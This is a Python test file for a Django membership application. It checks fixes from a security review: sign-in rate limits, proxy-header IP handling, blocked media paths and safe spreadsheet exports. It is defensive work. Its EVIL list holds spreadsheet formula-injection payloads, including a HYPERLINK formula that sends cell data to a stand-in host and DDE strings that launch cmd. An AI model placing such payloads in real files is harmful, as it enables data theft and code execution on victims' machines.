"""The classes of hole found by the outside security test (#14), each from the attacker's side:
a foreign-tree officer, a plain member, an anonymous caller. Each test asserts the answer and
that nothing changed."""

from __future__ import annotations

import pytest
from django.test import Client, override_settings

from suotdoi.people.models import Person

pytestmark = pytest.mark.django_db

GOOD = "Hoc-tap-2026!"


def _login(client: Client, login: str, password: str, **extra) -> bool:
    client.post("/accounts/login/", {"login": login, "password": password}, **extra)
    return "_auth_user_id" in client.session


# --- 3. Sign-in limits per account and per client address --------------------------------


def test_wrong_passwords_for_one_phone_do_not_lock_other_phones():
    Person.objects.create_user(full_name="Bùi Văn Long", phone="+84912555666", password=GOOD)
    Person.objects.create_user(full_name="Lý Thị Hoa", phone="+84912555777", password=GOOD)
    Person.objects.create_user(
        full_name="Đỗ Văn An", phone="+84912555888", email="an@example.vn", password=GOOD
    )
    attacker = Client(REMOTE_ADDR="203.0.113.9")
    for _ in range(6):
        assert not _login(attacker, "0912 555 666", "sai-mat-khau")
    # The victim's phone is held back, in any spelling, even with the right password ...
    assert not _login(Client(REMOTE_ADDR="198.51.100.1"), "+84912555666", GOOD)
    # ... but other phones and emails sign in, from another address and from the attacker's.
    assert _login(Client(REMOTE_ADDR="198.51.100.2"), "0912555777", GOOD)
    assert _login(Client(REMOTE_ADDR="198.51.100.3"), "an@example.vn", GOOD)


def test_one_address_guessing_many_phones_is_held_back():
    for i in range(12):
        Person.objects.create_user(full_name=f"Người {i}", phone=f"+8491277{i:04d}", password=GOOD)
    c = Client(REMOTE_ADDR="203.0.113.10")
    for i in range(11):
        _login(c, f"091277{i:04d}", "sai")
    # The eleventh failure within a minute from one address stops even a right password there.
    assert not _login(c, "0912770011", GOOD)
    assert _login(Client(REMOTE_ADDR="203.0.113.11"), "0912770011", GOOD)


@override_settings(ALLAUTH_TRUSTED_PROXY_COUNT=1)
def test_behind_the_load_balancer_the_client_address_comes_from_the_trusted_header():
    from suotdoi.core.clients import client_ip

    for i in range(12):
        Person.objects.create_user(full_name=f"Người {i}", phone=f"+8491288{i:04d}", password=GOOD)
    balancer = {"REMOTE_ADDR": "10.0.0.2"}
    c = Client(**balancer)
    for i in range(11):
        _login(c, f"091288{i:04d}", "sai", HTTP_X_FORWARDED_FOR="203.0.113.20")
    # Another client behind the same balancer is not held back by the first one's failures;
    # a forged first entry in the header does not choose the address either.
    ok = Client(**balancer)
    assert _login(ok, "0912880011", GOOD, HTTP_X_FORWARDED_FOR="1.2.3.4, 203.0.113.21")
    blocked = Client(**balancer)
    assert not _login(blocked, "0912880011", GOOD, HTTP_X_FORWARDED_FOR="203.0.113.20")

    class R:
        META = {"REMOTE_ADDR": "10.0.0.2"}
        headers = {"X-Forwarded-For": "evil, 198.51.100.7"}

    assert client_ip(R) == "198.51.100.7"


# --- 9. Uploaded files are never served by path -----------------------------------------


def test_uploaded_files_are_not_served_by_path_in_any_mode():
    import importlib

    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage
    from django.urls import Resolver404, clear_url_caches, resolve

    import config.urls

    name = default_storage.save("evidence/2026/minutes.pdf", ContentFile(b"%PDF-1.4 secret"))
    for debug in (False, True):
        with override_settings(DEBUG=debug):
            clear_url_caches()
            importlib.reload(config.urls)
            with pytest.raises(Resolver404):
                resolve(f"/media/{name}")
            assert Client().get(f"/media/{name}").status_code == 404
    clear_url_caches()
    importlib.reload(config.urls)


# --- 5. Exports never carry live formulas -------------------------------------------------

EVIL = [
    '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")',
    "+84912000001+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _assert_no_formula(data: bytes, must_contain: list[str]) -> None:
    import io

    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    seen = set()
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2", ws.title
        assert ws["A1"].font.bold
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    seen.add(c.value)
    for text in must_contain:
        assert text in seen, text


def _xlsx(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def test_member_export_writes_formula_like_text_as_text(people, units, client_for):
    from suotdoi.organisations.models import Membership, Unit

    member = people["member"]
    Person.objects.filter(pk=member.pk).update(full_name=EVIL[0])
    Unit.objects.filter(pk=units["group"].pk).update(name=EVIL[3])
    Membership.objects.filter(person=member).update(position_title=EVIL[2])
    c = client_for(people["grassroots_chair"])
    r = c.get(f"/units/{units['grassroots'].pk}/members/export.xlsx?subtree=on")
    assert r.status_code == 200
    _assert_no_formula(_xlsx(r), [EVIL[0], EVIL[2], EVIL[3]])


def test_import_error_file_writes_formula_like_text_as_text(people, units, client_for):
    from tests.conftest import xlsx_bytes

    # (The first would be a real formula in the uploaded file itself, read as its empty value.)
    rows = [[v, "31/02/2026", "", "0977111001", "", "", "", "", "", ""] for v in EVIL[1:]]
    c = client_for(people["grassroots_chair"])
    from django.core.files.uploadedfile import SimpleUploadedFile

    up = SimpleUploadedFile("x.xlsx", xlsx_bytes(rows))
    r = c.post(f"/units/{units['grassroots'].pk}/import/", {"file": up})
    assert r.status_code == 302, r.content[:500]
    from suotdoi.organisations.models import MemberImport

    imp = MemberImport.objects.latest("pk")
    r = c.get(f"/units/imports/{imp.pk}/errors.xlsx")
    assert r.status_code == 200
    _assert_no_formula(_xlsx(r), EVIL[1:])


def test_campaign_export_writes_formula_like_text_as_text(people, units, client_for):
    from suotdoi.organisations.models import Unit
    from tests.test_campaigns import launched

    camp = launched(people, units)
    Unit.objects.filter(pk=units["grassroots"].pk).update(name=EVIL[1])
    r = client_for(people["provincial_officer"]).get(f"/campaigns/{camp.pk}/export.xlsx")
    assert r.status_code == 200
    _assert_no_formula(_xlsx(r), [EVIL[1]])


def test_every_xlsx_writer_goes_through_the_safe_sheet_helpers():
    """A new export that writes cells itself would escape the checks above: find it."""
    import pathlib

    root = pathlib.Path(__file__).resolve().parent.parent / "suotdoi"
    offenders = []
    for path in root.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.name == "sheets.py" or "Workbook(" not in text:
            continue
        if "add_row" not in text and path.name != "importing.py":
            offenders.append(str(path))
        if "csv.writer" in text:
            offenders.append(str(path))
    assert not offenders
